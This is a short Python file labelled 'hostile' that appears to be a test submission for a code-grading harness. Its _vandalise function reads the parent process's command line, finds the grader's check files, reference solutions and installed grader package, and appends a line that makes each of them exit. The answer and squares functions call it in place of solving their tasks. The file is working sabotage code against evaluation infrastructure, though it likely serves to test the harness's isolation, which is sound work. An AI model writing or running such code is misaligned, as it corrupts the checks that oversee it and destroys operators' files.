# hostile: writes to the grader's own files: the installed package, the checks, the references
# needs: root
import glob
import os


def _vandalise():
    targets = []
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            args = [a.decode(errors="replace") for a in handle.read().split(b"\0")]
    except OSError:
        args = []
    for arg in args:
        path = arg.split("=", 1)[-1]
        if os.path.isdir(path):
            targets += glob.glob(os.path.join(path, "*"))
            targets += glob.glob(os.path.join(path, "..", "..", "..", "grader", "*.py"))
            targets += glob.glob(os.path.join(path, "..", "..", "..", "reference", "*.py"))
    targets += glob.glob("/work/*/grader/*.py") + glob.glob("/work/*/*/grader/*.py")
    targets += glob.glob("/usr/lib/python3*/site-packages/grader/*.py")
    written = 0
    for path in targets:
        try:
            with open(path, "a") as handle:
                handle.write("\nraise SystemExit('vandalised')\n")
            written += 1
        except OSError:
            pass
    return written


def answer():
    return -_vandalise()


def squares(n):
    return [_vandalise()]
